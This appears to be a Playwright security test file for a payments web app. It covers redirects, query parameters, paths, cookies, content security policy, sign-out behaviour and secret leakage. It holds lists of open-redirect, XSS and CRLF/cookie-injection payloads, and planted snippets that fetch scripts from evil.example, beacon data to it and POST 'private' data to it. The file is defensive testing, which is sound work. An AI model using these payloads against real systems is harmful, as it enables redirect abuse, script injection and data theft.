import type { APIRequestContext, BrowserContext, Page } from 'playwright/test'
import { expect, test } from './fixtures.ts'

const home = '/id/home'
const sessionCookie = '__Host-session'

/** What would lead away, run, or break out of a cookie, a header, an attribute or a path (X8). */
const hostile = [
  '//evil.example',
  '///evil.example/id/home',
  '/\\evil.example',
  '\\\\evil.example',
  'https://evil.example',
  'https:evil.example',
  'HtTpS:/evil.example',
  '/%2f%2fevil.example',
  '/%5cevil.example',
  '/%09/evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  '/id/../..//evil.example',
  '/id/%2e%2e/%2e%2e//evil.example',
  '/.//evil.example',
  '@evil.example',
  '.evil.example',
  'javascript:alert(document.domain)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "';alert(1)//",
  'x; Domain=evil.example; Path=/; Max-Age=0',
  `x\r\nSet-Cookie: ${sessionCookie}=stolen`,
  '%0d%0aLocation:%20https://evil.example',
  '%',
  '%E0%A4%A',
  'ключ‮\u0000\u2028end',
  'x'.repeat(1000),
]

const encoded = hostile.map((text) => encodeURIComponent(text))

interface Person {
  readonly email: string
  readonly password: string
}

const makePerson = async (request: APIRequestContext, overrides = {}): Promise<Person> => {
  const response = await request.post('/sandbox/accounts', { data: { persona: 'verified', overrides } })
  return (await response.json()) as Person
}

const signInPage = (page: Page) => page.getByRole('heading', { level: 1, name: 'Sign in to Paydeck' })
const welcome = (page: Page) => page.getByRole('heading', { level: 1, name: /^Welcome/ })

const signIn = async (page: Page, { email, password }: Person): Promise<void> => {
  await page.getByLabel('E-mail').fill(email)
  await page.getByLabel('Password').fill(password)
  await page.getByRole('button', { name: 'Sign in', exact: true }).first().click()
}

const signOut = async (page: Page): Promise<void> => {
  await page.getByRole('button', { name: 'Account menu' }).click()
  await page.getByRole('button', { name: 'Sign Out' }).click()
}

const cookiesOf = async (context: BrowserContext): Promise<ReadonlyMap<string, string>> =>
  new Map((await context.cookies()).map(({ name, value }) => [name, value]))

test.beforeEach(({ page }) => {
  page.on('dialog', (dialog) => {
    void dialog.dismiss()
    throw new Error(`A script of somebody else ran: ${dialog.message()}`)
  })
})

test.describe('hostile texts', () => {
  // Each text is a page of its own.
  test.setTimeout(120_000)

  test('X8 ROUTE-057 as a return address lead into the app after signing in', async ({ page, baseURL }) => {
    for (const text of encoded) {
      await page.goto(`/authenticate/login?redirect=${text}`)
      await page.getByRole('button', { name: 'Sign in as A new shopper' }).click({ noWaitAfter: true })
      // Some of them are harmless paths of this origin; whichever it is, it is one.
      await page.waitForURL((url) => !url.pathname.startsWith('/authenticate/'), { waitUntil: 'commit' })
      expect(page.url().startsWith(`${baseURL}/id/`), `${text} led to ${page.url()}`).toBe(true)
    }
    await expect(welcome(page)).toBeVisible()
  })

  test('X8 ROUTE-063 ROUTE-065 ROUTE-067 in the query do nothing but be kept as "oid", in one cookie', async ({ page, context, account, baseURL }) => {
    await account('verified')
    const before = Object.fromEntries(await cookiesOf(context))
    for (const [index, text] of encoded.entries()) {
      const others = ['email', 'apply', 'hidden-currencies', 'secret', 'isWallet', 'add-name'].map((key) => `${key}=${text}`)
      await page.goto(`${home}?oid=${text}&${others.join('&')}`)
      await expect(welcome(page)).toBeVisible()
      expect(new URL(page.url()).origin).toBe(baseURL)
      await expect(page.locator('img[src="x"], script:not([src])')).toHaveCount(0)
      const { referral = '', ...rest } = Object.fromEntries(await cookiesOf(context))
      expect(decodeURIComponent(referral)).toBe(hostile[index])
      expect(rest).toEqual(before)
    }
  })

  test('X8 ROUTE-050 ROUTE-051 ROUTE-056 as an invite and its address stay inside the way back', async ({ page, baseURL }) => {
    for (const [index, text] of encoded.entries()) {
      await page.goto(`/id?accept-invite-payload=${text}&email=${text}`)
      await expect(signInPage(page)).toBeVisible()
      const login = new URL(page.url())
      expect(login.origin).toBe(baseURL)
      expect([...login.searchParams.keys()]).toEqual(['redirect', 'destination'])
      const back = new URL(login.searchParams.get('redirect') ?? '', login)
      expect(back.origin + back.pathname).toBe(`${baseURL}/id`)
      expect([...back.searchParams]).toEqual([
        ['accept-invite-payload', hostile[index]],
        ['email', hostile[index]],
      ])
    }
  })

  test('X8 as an invite of somebody signed in stay in its link', async ({ page, account, baseURL }) => {
    await account('verified')
    for (const [index, text] of encoded.entries()) {
      await page.goto(`/id?accept-invite-payload=${text}`)
      const link = page.getByRole('link', { name: 'Accept invite' })
      await expect(link).toBeVisible()
      const address = new URL((await link.getAttribute('href')) ?? '', baseURL)
      expect(address.origin + address.pathname).toBe(`${baseURL}/id/settings/receiving-addresses`)
      expect(address.searchParams.get('accept-invite-payload')).toBe(hostile[index])
    }
  })

  const paths = ['//evil.example', '/%2f%2fevil.example', '/%5cevil.example', '/%5c%5cevil.example', '/.//evil.example', '/https:%2f%2fevil.example', '/javascript:alert(1)', '/home/%2e%2e//evil.example', '/%00', '/%E0%A4%A', '/%25%32%66evil']

  test('X8 ROUTE-056 as a path stay on this origin, signed in or not', async ({ page, request, context, account, baseURL, expectedErrors }) => {
    // A path that is none is refused before it reaches the app, by an answer that names no icon.
    expectedErrors.push(/status of (400|404)/)
    const person = await makePerson(request)
    for (const path of paths) {
      const response = await page.goto(`/id${path}`)
      expect(new URL(page.url()).origin).toBe(baseURL)
      if (response?.status() !== 200) continue
      await expect(signInPage(page)).toBeVisible()
      await signIn(page, person)
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      expect(page.url().startsWith(`${baseURL}/id`), `${path} led to ${page.url()}`).toBe(true)
      // Away from the page first, whose own calls would else be answered 401, and lead it to the login meanwhile.
      await page.goto('about:blank')
      await context.clearCookies()
    }
    await account('verified')
    for (const path of paths) {
      const response = await page.goto(`/id${path}`)
      expect(page.url().startsWith(`${baseURL}/id`), `${path} led to ${page.url()}`).toBe(true)
      if (response?.status() === 200) await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    }
  })
})

test.describe('planted violations', () => {
  const plants: Readonly<Record<string, { readonly directive: RegExp; readonly plant: () => void }>> = {
    'an inline script': {
      directive: /^(script-src|require-trusted-types-for)/,
      plant: () => {
        const script = document.createElement('script')
        script.append('globalThis.planted = true')
        document.body.append(script)
      },
    },
    'a script of another host': {
      directive: /^(script-src|require-trusted-types-for)/,
      plant: () => {
        const script = document.createElement('script')
        script.src = 'https://evil.example/x.js'
        document.body.append(script)
      },
    },
    'an inline handler': {
      directive: /^(script-src|require-trusted-types-for)/,
      plant: () => {
        const button = document.createElement('button')
        button.setAttribute('onclick', 'globalThis.planted = true')
        document.body.append(button)
        button.click()
      },
    },
    'markup as text': {
      directive: /^(script-src|require-trusted-types-for)/,
      plant: () => {
        document.body.insertAdjacentHTML('beforeend', '<img src="/icon.svg" onload="globalThis.planted = true">')
      },
    },
    'text as code': {
      directive: /^(script-src|require-trusted-types-for)/,
      plant: () => {
        setTimeout('globalThis.planted = true')
      },
    },
    'a picture of another host': {
      directive: /^img-src/,
      plant: () => {
        new Image().src = 'https://evil.example/pixel.png?session'
      },
    },
    'a request to another host': {
      directive: /^connect-src/,
      plant: () => {
        void fetch('https://evil.example/collect', { method: 'POST', body: 'private' }).catch(() => undefined)
      },
    },
    'a frame': {
      directive: /^(frame-src|default-src)/,
      plant: () => {
        const frame = document.createElement('iframe')
        frame.src = 'https://evil.example/'
        document.body.append(frame)
      },
    },
    'a form to another host': {
      directive: /^form-action/,
      plant: () => {
        const form = document.createElement('form')
        form.action = 'https://evil.example/'
        form.method = 'post'
        document.body.append(form)
        form.submit()
      },
    },
    'an inline style': {
      directive: /^style-src/,
      plant: () => {
        const style = document.createElement('style')
        style.textContent = 'body { display: none }'
        document.head.append(style)
      },
    },
    'another base address': {
      directive: /^base-uri/,
      plant: () => {
        const base = document.createElement('base')
        base.href = 'https://evil.example/'
        document.head.append(base)
      },
    },
  }

  for (const [name, { directive, plant }] of Object.entries(plants)) {
    test(`X4 ${name} is blocked and reported`, async ({ page, account, expectedErrors }) => {
      expectedErrors.push(/policy|Policy|TrustedHTML|TrustedScript|foreign host: https:\/\/evil\.example/)
      await account('verified')
      await page.goto(home)
      await expect(welcome(page)).toBeVisible()
      const reached: Array<string> = []
      page.on('response', (response) => void (response.url().includes('evil.example') && reached.push(response.url())))
      await page.evaluate(() => {
        const seen: Array<string> = []
        Object.assign(globalThis, { seen })
        addEventListener('securitypolicyviolation', ({ violatedDirective, disposition, originalPolicy }) => {
          seen.push(`${violatedDirective} ${disposition} ${/report-to csp/.exec(originalPolicy)?.[0]}`)
        })
      })
      await page.evaluate(plant).catch(() => undefined)
      await expect.poll(() => page.evaluate<ReadonlyArray<string>>('globalThis.seen')).not.toEqual([])
      const [first = ''] = await page.evaluate<ReadonlyArray<string>>('globalThis.seen')
      expect(first).toMatch(directive)
      // The browser sends its reports when it likes, and shows them to nobody here.
      expect(first).toMatch(/ enforce report-to csp$/)
      expect(await page.evaluate('globalThis.planted')).toBeUndefined()
      expect(reached).toEqual([])
      expect(await page.evaluate(() => document.querySelector('h1')?.textContent)).toMatch(/^Welcome/)
    })
  }
})

test.describe('cookies', () => {
  test('X5 the session cookie is for this host, encrypted connections and no script', async ({ page, context, request, baseURL }) => {
    await page.goto(home)
    await signIn(page, await makePerson(request))
    await expect(welcome(page)).toBeVisible()
    const cookies = await context.cookies()
    const [cookie] = cookies.filter(({ name }) => name === sessionCookie)
    expect(cookie).toMatchObject({ domain: new URL(baseURL ?? '').hostname, path: '/', expires: -1, httpOnly: true, secure: true, sameSite: 'Strict' })
    expect(JSON.stringify(cookie).length).toBeLessThan(4096)
    expect(cookies.map(({ name }) => name)).toEqual([sessionCookie])
    expect(await page.evaluate(() => document.cookie)).toBe('')
  })

  test('X5 a link from another site finds its reader signed in', async ({ page, account, baseURL }) => {
    await account('verified')
    await page.goto('about:blank')
    await page.setContent(`<a href="${baseURL}/id?accept-invite-payload=token-7">Answer the invite</a>`)
    const landing = page.waitForRequest((request) => request.isNavigationRequest() && request.url().includes('/id?'))
    await page.getByRole('link').click()
    expect((await (await landing).allHeaders())['cookie']).toBeUndefined()
    await expect(page.getByRole('link', { name: 'Accept invite' })).toBeVisible()
  })

  test('ROUTE-063 ROUTE-064 ROUTE-065 "oid" goes into the referral cookie, on any path and before signing in', async ({ page, context }) => {
    await page.addInitScript(() => {
      const written: Array<string> = []
      Object.assign(globalThis, { written })
      const own = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie')
      Object.defineProperty(document, 'cookie', {
        get: () => own?.get?.call(document) as unknown,
        set: (text: string) => {
          written.push(text)
          own?.set?.call(document, text)
          // It outlives the page, which leaves for the login.
          sessionStorage.setItem('written', JSON.stringify(written))
        },
      })
    })
    await page.goto('/id/crypto-payments?oid=friend-1')
    await expect(signInPage(page)).toBeVisible()
    const written = JSON.parse((await page.evaluate(() => sessionStorage.getItem('written'))) ?? '[]') as ReadonlyArray<string>
    expect(written).toHaveLength(1)
    expect(written[0]?.split('; ').toSorted()).toEqual(['Max-Age=863913600', 'Path=/', 'SameSite=Lax', 'referral=friend-1'])
    const [cookie] = (await context.cookies()).filter(({ name }) => name === 'referral')
    expect(cookie).toMatchObject({ value: 'friend-1', path: '/', sameSite: 'Lax' })
    // Browsers cap what they store; 399 days is less than any cap.
    expect(cookie?.expires).toBeGreaterThan(Date.now() / 1000 + 399 * 86_400)
  })

  test('ROUTE-065 a newer "oid" replaces the older one; none or an empty one leaves it', async ({ page, context, account }) => {
    await account('verified')
    const referral = async (): Promise<string | undefined> => (await cookiesOf(context)).get('referral')
    await page.goto(home)
    await expect(welcome(page)).toBeVisible()
    expect(await referral()).toBeUndefined()
    for (const [query, kept] of [['?oid=one', 'one'], ['?oid=two', 'two'], ['', 'two'], ['?oid=', 'two'], ['?oid=three&oid=four', 'four']] as const) {
      await page.goto(`/id/settings/profile${query}`)
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      expect(await referral()).toBe(kept)
    }
  })
})

test.describe('after signing out', () => {
  test('X13 SESS-021 going back shows nothing private', async ({ page, context, account }) => {
    await account('cardholder', { firstName: 'Benedikta', cards: [{ provider: 'galileo', nickname: 'Secret savings' }] })
    await page.goto(home)
    await expect(page.getByText('Secret savings')).toBeVisible()
    const session = (await cookiesOf(context)).get(sessionCookie)
    await page.goto('/id/settings/profile')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await signOut(page)
    await expect(signInPage(page)).toBeVisible()
    await page.addInitScript(() => {
      new MutationObserver(() => {
        if (/Benedikta|Secret savings/.test(document.documentElement.textContent)) console.error('something private was shown')
      }).observe(document, { childList: true, subtree: true, characterData: true })
    })
    for (let step = 0; step < 2; step += 1) {
      await page.goBack()
      await expect(signInPage(page)).toBeVisible()
      await expect(page.getByText(/Benedikta|Secret savings/)).toHaveCount(0)
    }
    const kept = await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }))
    expect(kept).not.toMatch(/Benedikta|Secret|@example/)
    expect((await cookiesOf(context)).get(sessionCookie)).not.toBe(session)
  })

  test('X13 nothing private is kept where a later visitor could read it', async ({ page, account }) => {
    const kinds: Array<string> = []
    page.on('response', (response) => {
      const { pathname } = new URL(response.url())
      const isPrivate = /^\/(api|auth|compliance|marketing|wallet-card)\b/.test(pathname)
      if (isPrivate && !/\bno-store\b/.test(response.headers()['cache-control'] ?? '')) kinds.push(pathname)
    })
    await account('verified')
    await page.goto(home)
    await expect(welcome(page)).toBeVisible()
    await page.waitForLoadState('networkidle')
    expect(kinds).toEqual([])
    expect(await page.evaluate(async () => ({ caches: await caches.keys(), databases: await indexedDB.databases() }))).toEqual({ caches: [], databases: [] })
  })
})

test.describe('secrets', () => {
  test('L1 password, session, CSRF value, tokens and address leave only where the contract says', async ({ page, context, request }) => {
    const person = await makePerson(request)
    const urls: Array<{ readonly method: string; readonly url: string }> = []
    const said: Array<string> = []
    const secrets = new Map([['password', person.password], ['address', person.email]])
    page.on('console', (message) => said.push(message.text()))
    page.on('request', (sent) => {
      urls.push({ method: sent.method(), url: decodeURIComponent(sent.url()) })
      const referrer = sent.headers()['referer']
      if (referrer !== undefined) urls.push({ method: 'referrer', url: decodeURIComponent(referrer) })
    })
    const session = page.waitForResponse((response) => response.url().endsWith('/auth/session') && response.request().resourceType() === 'fetch')
    await page.goto(home)
    await session
    await signIn(page, person)
    const answers = await Promise.all([
      page.waitForResponse('**/auth/session'),
      page.waitForResponse((response) => response.request().postData()?.includes('getProductTokens') === true),
    ])
    const [{ csrfToken }, { data }] = (await Promise.all(answers.map((answer) => answer.json()))) as [
      { readonly csrfToken: string },
      { readonly data: ReadonlyArray<{ readonly facade: string; readonly token: string }> },
    ]
    await expect(welcome(page)).toBeVisible()
    await page.getByRole('button', { name: 'Join Waitlist' }).click()
    await expect(page.getByText('You are on the waitlist.')).toBeVisible()
    secrets.set('CSRF value', csrfToken)
    for (const { facade, token } of data) secrets.set(`token of ${facade}`, token)
    secrets.set('session', (await cookiesOf(context)).get(sessionCookie) ?? '')
    expect([...secrets.values()].every((secret) => secret.length > 8)).toBe(true)
    const stored = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, document.documentElement.outerHTML]))
    // CALL-077: the token in the path; CALL-090 and CALL-103: the address in the query.
    const allowed = [
      { secret: /^token of /, where: /^POST \/api\/dashboard\/[^/?]+$/ },
      { secret: /^address$/, where: /^GET \/(auth\/passkey\/status|marketing\/marketingOptIn)\?email=/ },
    ]
    for (const [name, secret] of secrets) {
      const found = urls
        .filter(({ url }) => url.includes(secret))
        .map(({ method, url }) => `${method} ${url.replace(/^https?:\/\/[^/]+/, '')}`)
        .filter((where) => !allowed.some((one) => one.secret.test(name) && one.where.test(where)))
      expect(found, `${name} in an address`).toEqual([])
      expect(said.filter((text) => text.includes(secret)), `${name} in the console`).toEqual([])
      if (name !== 'address') expect(stored.includes(secret), `${name} in what is stored or shown`).toBe(false)
    }
    expect(await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]))).not.toContain(person.email)
  })

  test('L1 an invite and its address leave the address bar once they are read', async ({ page, account }) => {
    await account('verified')
    await page.goto('/id?accept-invite-payload=secret-token&email=ada%40example.com')
    await expect(page.getByRole('link', { name: 'Accept invite' })).toBeVisible()
    await expect(page).toHaveURL(home)
  })
})
